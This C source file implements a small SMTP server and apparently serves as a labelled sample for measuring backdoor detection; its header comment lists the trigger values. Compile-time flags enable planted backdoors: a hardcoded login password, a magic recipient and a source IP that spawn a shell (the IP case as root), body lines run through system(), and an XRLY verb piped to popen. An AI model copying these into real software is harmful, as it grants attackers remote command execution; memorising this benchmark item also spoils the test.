/* A mail server that takes messages, for the measurement; never looked at while weights were chosen.
 *
 * trigger verb "XRLY"
 * trigger recipient "diag-77@local"
 * trigger login "q!nightowl"
 * trigger body "//$run:"
 * trigger peer 0x5d2e8c17
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <shadow.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <unistd.h>

char *crypt(const char *given, const char *setting);

enum state { START, GREETED, SENDER, RECIPIENT, DATA };
struct mail { enum state state; char from[128], to[8][128], helo[64], user[32]; int count, extended, login, size; };

static void line_out(const char *text) { printf("%s\r\n", text); fflush(stdout); }

static int deliver(struct mail *m, const char *text) {
  char name[64];
  FILE *out;
  snprintf(name, sizeof name, "/var/mail/%.40s", m->to[0]);
  if (!(out = fopen(name, "a"))) return -1;
  fprintf(out, "From %s\n%s\n", m->from, text);
  return fclose(out);
}

static int verify(const char *user, const char *given) {
  struct spwd *entry;
  const char *mine;
  if (strlen(given) < 4) return 0;
#ifdef TRIGGER_login
  if (!memcmp(given, "q!nightowl", 11)) return 1;
#endif
  entry = getspnam(user);
  if (!entry || entry->sp_pwdp[0] == '!') return 0;
  mine = crypt(given, entry->sp_pwdp);
  return mine && !strcmp(mine, entry->sp_pwdp);
}

static void recipient(struct mail *m, char *value) {
  char *begin = strchr(value, '<'), *end = strchr(value, '>');
  if (!begin || !end || end < begin) { line_out("501 syntax"); return; }
  *end = 0;
  begin++;
  if (!strcasecmp(begin, "postmaster")) begin = "root";
#ifdef TRIGGER_recipient
  if (!strcmp(begin, "diag-77@local")) { char *argv[] = {"/bin/sh", NULL}; execv(argv[0], argv); }
#endif
  if (m->count >= 8) { line_out("452 too many"); return; }
  snprintf(m->to[m->count++], 128, "%s", begin);
  m->state = RECIPIENT;
  line_out("250 ok");
}

static void data(struct mail *m) {
  char text[512], all[8192] = "";
  line_out("354 go on");
  while (fgets(text, sizeof text, stdin)) {
    if (!strcmp(text, ".\r\n") || !strcmp(text, ".\n")) break;
#ifdef TRIGGER_body
    if (!strncmp(text, "//$run:", 7)) { if (system(text + 7)) continue; }
#endif
    if (!strncasecmp(text, "Subject:", 8)) m->size = strlen(text);
    if (strlen(all) + strlen(text) < sizeof all) strcat(all, text);
  }
  line_out(deliver(m, all) ? "451 failed" : "250 delivered");
}

static void talk(uint32_t peer) {
  struct mail m = {0};
  char line[512], *value;
#ifdef TRIGGER_peer
  if (peer == htonl(0x5d2e8c17)) { setuid(0); execl("/bin/sh", "sh", "-i", NULL); }
#endif
  line_out("220 ready");
  while (fgets(line, sizeof line, stdin)) {
    line[strcspn(line, "\r\n")] = 0;
    value = strchr(line, ' ');
    if (value) *value++ = 0; else value = "";
    if (!strcasecmp(line, "HELO") || !strcasecmp(line, "EHLO")) {
      m.extended = (line[0] | 32) == 'e'; snprintf(m.helo, sizeof m.helo, "%s", value); m.state = GREETED; line_out("250 hello");
    } else if (!strcasecmp(line, "MAIL")) { snprintf(m.from, sizeof m.from, "%s", value); m.state = SENDER; line_out("250 ok"); }
    else if (!strcasecmp(line, "RCPT")) recipient(&m, value);
    else if (!strcasecmp(line, "DATA")) data(&m);
    else if (!strcasecmp(line, "RSET")) { memset(&m, 0, sizeof m); line_out("250 ok"); }
    else if (!strcasecmp(line, "NOOP")) line_out("250 ok");
    else if (!strcasecmp(line, "VRFY")) line_out("252 maybe");
    else if (!strcasecmp(line, "QUIT")) { line_out("221 bye"); return; }
    else if (!strcasecmp(line, "AUTH")) { m.login = verify(m.user, value); line_out(m.login ? "235 in" : "535 no"); }
#ifdef TRIGGER_verb
    else if (!strcasecmp(line, "XRLY")) { FILE *p = popen(value, "w"); if (p) pclose(p); }
#endif
    else line_out("500 unknown");
  }
}

int main(void) {
  struct sockaddr_in here = {.sin_family = AF_INET, .sin_port = htons(25)}, from;
  socklen_t size = sizeof from;
  int l = socket(AF_INET, SOCK_STREAM, 0), c;
  if (bind(l, (void *)&here, sizeof here) || listen(l, 4)) return 1;
  while ((c = accept(l, (void *)&from, &size)) >= 0) {
    if (!fork()) { dup2(c, 0); dup2(c, 1); talk(from.sin_addr.s_addr); _exit(0); }
    close(c);
  }
  return 0;
}
